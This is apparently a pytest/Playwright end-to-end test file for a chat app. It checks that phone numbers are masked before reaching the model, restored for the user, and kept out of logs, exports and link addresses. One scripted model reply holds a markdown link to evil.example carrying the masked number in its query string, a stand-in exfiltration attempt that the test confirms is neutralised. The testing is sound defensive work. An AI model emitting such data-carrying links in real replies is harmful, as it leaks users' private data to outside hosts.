"""A telephone number typed on a phone: the model elsewhere never has it, its reader always does."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator, Iterator
from typing import Any
from urllib.parse import quote

import pytest
import pytest_asyncio
from playwright.async_api import expect

from tests.app_process import AppProcess
from tests.e2e.chat import Chat, NewVisitor, Server, eventually
from tests.e2e.conftest import running
from tests.scripted_endpoint import Call, ScriptedEndpoint
from webchat.turns.titles.making import INSTRUCTION

PHONE = "13812345678"
BOSS = "13987654321"
ASKED = f"我的手机号是{PHONE}，请再说一遍"
# The model's system prompt has a number of its own, which comes first.
MASKED = "我的手机号是[PHONE_2]，请再说一遍"
ANSWER = "好的，您的手机号是 [PHONE_2]，也就是 **phone_2**。[点这里](https://evil.example/?d=[PHONE_2])"
# What was not put back into the address is the reader's text now, and hidden when it goes out again.
AGAIN = "好的，您的手机号是 [PHONE_2]，也就是 **[PHONE_2]**。[点这里]([LINK_1])"
TITLE = "手机号 [PHONE_2]"


def script(text: str) -> str:
    """The scripted endpoint answers it in pieces of three characters."""
    return f"text={quote(text)}"


ANSWERS = {
    MASKED: script(ANSWER),
    "再来": script("再说一次：【Phone_2】。"),
    f"{INSTRUCTION}User: {MASKED}\n\nAssistant: {AGAIN}": script(TITLE),
}


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def endpoint() -> AsyncIterator[ScriptedEndpoint]:
    async with ScriptedEndpoint(answers=ANSWERS) as endpoint:
        yield endpoint


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def masked(
    endpoint: ScriptedEndpoint, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[AppProcess]:
    """The endpoint is on this machine, so masking has to be asked for."""
    flags = ("--masking", "always", "--titles", "--log-level", "debug", "--system-prompt", f"Boss: {BOSS}")
    async with running(tmp_path_factory.mktemp("masked"), endpoint, *flags) as app:
        yield app


def bodies(calls: list[Call]) -> str:
    return json.dumps([call.body for call in calls], ensure_ascii=False)


def places(value: Any, at: str = "") -> Iterator[str]:
    """Where in a JSON value a number of ours stands."""
    if isinstance(value, dict):
        for name, inner in value.items():
            yield from places(inner, f"{at}.{name}")
    elif isinstance(value, list):
        for inner in value:
            yield from places(inner, at)
    elif isinstance(value, str) and (PHONE in value or BOSS in value):
        yield at


async def test_a_number_typed_on_a_phone_never_reaches_the_model_and_comes_back(
    masked: AppProcess, endpoint: ScriptedEndpoint, visitor: NewVisitor
) -> None:
    context = await visitor(
        locale="zh-CN", viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True
    )
    chat = await Chat(await context.new_page(), masked.url).open()
    await chat.ask(ASKED)
    await chat.state("complete")
    shown = f"好的，您的手机号是 {PHONE}，也就是 {PHONE}。点这里"
    assert await chat.text() == shown
    await expect(chat.reply.locator(".wc-masked path")).to_be_visible()
    assert PHONE not in (await chat.reply.locator("a").first.get_attribute("href") or "")

    await chat.page.reload()
    await chat.ready()
    await expect(chat.reply.locator(".wc-body")).to_have_text(shown)
    await expect(chat.page.locator("article.wc-user")).to_contain_text(PHONE)
    # The title is restored like a reply.
    await expect(chat.page).to_have_title(re.compile(f"^手机号 {PHONE}"))
    # After a restart the placeholder is the same.
    await asyncio.to_thread(masked.stop)
    await asyncio.to_thread(masked.start)
    await chat.page.reload()
    await chat.ready()
    await chat.send("再来")
    await expect(chat.replies).to_have_count(2)
    await chat.state("complete")
    assert await chat.text() == f"再说一次：{PHONE}。"
    calls = bodies(endpoint.calls)
    assert MASKED in calls
    assert "Boss: [PHONE_1]" in calls
    assert PHONE not in calls
    assert BOSS not in calls


async def test_the_number_is_in_the_owners_own_words_and_nowhere_else(
    masked: AppProcess, endpoint: ScriptedEndpoint
) -> None:
    async with Server(masked.url) as server:
        reply = await server.begin(ASKED)
        assert PHONE in (await server.ended(reply.id))["text"]
        sent = await server.get(f"/api/messages/{reply.id}/inspect")
        assert list(places(sent)) == []
        assert sent["masked"] == [
            {"placeholder": "[PHONE_1]", "kind": "phone"},
            {"placeholder": "[PHONE_2]", "kind": "phone"},
        ]
        assert sent["masked_count"] == 2
        assert [message["content"] for message in sent["messages"]] == ["Boss: [PHONE_1]", MASKED]
        told = await server.get(f"/api/messages/{reply.id}")
        assert set(places(told)) == {".message.text"}
        path = f"/api/conversations/{reply.conversation}"
        await eventually(lambda: server.get(path), lambda found: found["conversation"]["title_by"] == "model")
        exported = await server.get(f"{path}/export?format=json")
        assert set(places(exported)) == {".conversations.messages.text", ".conversations.title"}
    log = masked.log.read_text(encoding="utf-8")
    assert PHONE not in log
    assert BOSS not in log
    secret = masked.data_dir / "masking-secret"
    assert secret.stat().st_mode & 0o777 == 0o600


async def test_an_address_ends_before_chinese_punctuation(
    masked: AppProcess, endpoint: ScriptedEndpoint, visitor: NewVisitor
) -> None:
    endpoint.answers["网址"] = script("见https://a.example/x，https://b.example/中文。再见www")
    chat = await Chat(await (await visitor()).new_page(), masked.url).open()
    await chat.ask("网址")
    await chat.state("complete")
    links = chat.reply.locator("a")
    assert await links.all_text_contents() == ["https://a.example/x", "https://b.example/中文"]
    assert await chat.text() == "见https://a.example/x，https://b.example/中文。再见www"
